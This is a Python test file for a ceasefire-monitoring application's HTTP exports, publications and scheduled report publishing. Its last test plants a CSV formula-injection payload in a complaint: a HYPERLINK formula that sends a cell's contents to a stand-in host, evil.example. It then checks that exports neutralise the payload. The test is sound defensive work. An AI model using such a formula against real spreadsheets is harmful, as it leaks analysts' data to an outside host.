"""Exports and publications over HTTP: who gets what, streamed exports, stored reports."""

from __future__ import annotations

import csv
import hashlib
import io
import time
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient

from ceasefire.access import Viewer
from ceasefire.agreements import service as agreements
from ceasefire.app import create_app
from ceasefire.db.context import ServiceContext
from ceasefire.publish import service as publishing
from ceasefire.publish.model import Edition, OutputFormat, last_cutoff_day
from ceasefire.timeutil import utcnow
from tests.factories.members import Cast
from tests.factories.publish import make_day
from tests.factories.reports import COMPLAINT, shelling_body


def test_exports_and_publications_over_http(
    ctx: ServiceContext, cast: Cast, client: TestClient
) -> None:
    day = make_day(ctx, cast)
    public = client.get("/api/v1/exports/incidents", params={"format": "acled", "hxl": "true"})
    assert public.status_code == 200
    assert public.headers["content-type"].startswith("text/csv")
    as_of = public.headers["x-export-as-of"]
    assert as_of
    rows = list(csv.DictReader(io.StringIO(public.text)))[1:]  # the HXL row first
    assert day.ids["clash"] not in {r["event_id_cnty"] for r in rows}
    liaison = client.get(
        "/api/v1/exports/incidents", params={"format": "jsonl"}, headers=cast.bearer("arm")
    )
    assert day.ids["clash"] in liaison.text
    assert day.ids["checkpoint"] not in liaison.text
    since = client.get("/api/v1/exports/incidents", params={"format": "jsonl", "since": as_of})
    assert since.status_code == 200
    assert since.text.count("\n") == 1  # the header: nothing changed
    wrong = client.get("/api/v1/exports/reports", params={"format": "geojson"})
    assert wrong.status_code == 422
    assert wrong.json()["error"]["details"][0]["loc"] == "format"

    query = {"date": "2020-11-26", "format": "html", "edition": "public"}
    assert client.post("/api/v1/publications/daily", params=query).status_code == 401
    made = client.post("/api/v1/publications/daily", params=query, headers=cast.bearer("tur"))
    assert made.status_code == 200
    assert made.headers["x-content-sha256"] == hashlib.sha256(made.content).hexdigest()
    listed = client.get("/api/v1/publications").json()
    assert [p["id"] for p in listed] == [made.headers["x-publication-id"]]
    served = client.get(f"/api/v1/publications/{listed[0]['id']}/content")
    assert served.content == made.content
    internal = client.post(
        "/api/v1/publications/daily",
        params={**query, "edition": "internal"},
        headers=cast.bearer("arm"),
    )
    assert internal.status_code == 200
    hidden = internal.headers["x-publication-id"]
    assert client.get(f"/api/v1/publications/{hidden}/content").status_code == 404
    mine = client.get(f"/api/v1/publications/{hidden}/content", headers=cast.bearer("arm"))
    assert mine.status_code == 200


def test_the_server_publishes_at_the_cut_off(
    ctx: ServiceContext, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the schedule on, the application's background task publishes the last cut-off's
    report by itself (HTML here, to stay fast). That a restart repeats nothing is
    ``publish_due``'s (tests/integration/test_publish_reports.py)."""
    monkeypatch.setattr(publishing, "SCHEDULE", ((Edition.PUBLIC, "en", OutputFormat.HTML),))
    make_day(ctx, cast)
    scheduled = ServiceContext(
        settings=ctx.settings.model_copy(update={"publish_schedule": True}), engine=ctx.engine
    )
    # What is due depends on the day the test runs: the daily report always, and on a
    # Sunday's cut-off the weekly summary too, on a month's last day the monthly one.
    zone = agreements.get_agreement(ctx, cast.agreement_id).agreement.effective.time_zone
    day = last_cutoff_day(utcnow(), zone)
    expected = {"daily"}
    if day.weekday() == 6:
        expected.add("weekly")
    if (day + timedelta(days=1)).month != day.month:
        expected.add("monthly")
    with TestClient(create_app(ctx=scheduled)):
        deadline = time.monotonic() + 120
        while len(publishing.list_publications(ctx, Viewer.public())) < len(expected):
            assert time.monotonic() < deadline, "not everything due was published"
            time.sleep(0.2)
    published = publishing.list_publications(ctx, Viewer.public())
    assert sorted(p.kind for p in published) == sorted(expected)
    assert {p.period for p in published if p.kind == "daily"} == {f"daily:{day.isoformat()}"}
    assert all(p.generated_at is not None for p in published)


def test_a_liaisons_text_reaches_a_csv_export_as_text_not_a_formula(
    client: TestClient, cast: Cast
) -> None:
    """As Armenia's liaison: the narrative and place of its complaint reach the monitors'
    ACLED and UCDP exports (``notes``, ``location``, ``where_coordinates``), which analysts
    open in a spreadsheet. Text starting ``=``, ``+``, ``-`` or ``@`` would run there as a
    formula (a ``HYPERLINK`` or ``WEBSERVICE`` sending other cells out): it is written with a
    leading apostrophe, as text."""
    formula = '=HYPERLINK("https://evil.example/?"&A2,"details")'
    complaint = {
        **shelling_body(**COMPLAINT, concerns=["ARM"], alleged_perpetrator="AZE"),
        "narrative": formula,
        "event_position": {"place_name": "@SUM(1+1)", "precision": 2, "lat": 39.99, "lon": 46.93},
    }
    filed = client.post("/api/v1/reports", json=complaint, headers=cast.bearer("arm"))
    assert filed.status_code == 201, filed.text
    for fmt, columns in (("acled", ("notes", "location")), ("ucdp", ("where_coordinates",))):
        exported = client.get(
            "/api/v1/exports/reports", params={"format": fmt}, headers=cast.bearer("tur")
        )
        assert exported.status_code == 200, exported.text
        (row,) = list(csv.DictReader(io.StringIO(exported.text)))
        cells = [row[c] for c in columns]
        assert all(cell[:1] == "'" for cell in cells), cells
        assert {cell[1:] for cell in cells} <= {formula, "@SUM(1+1)"}
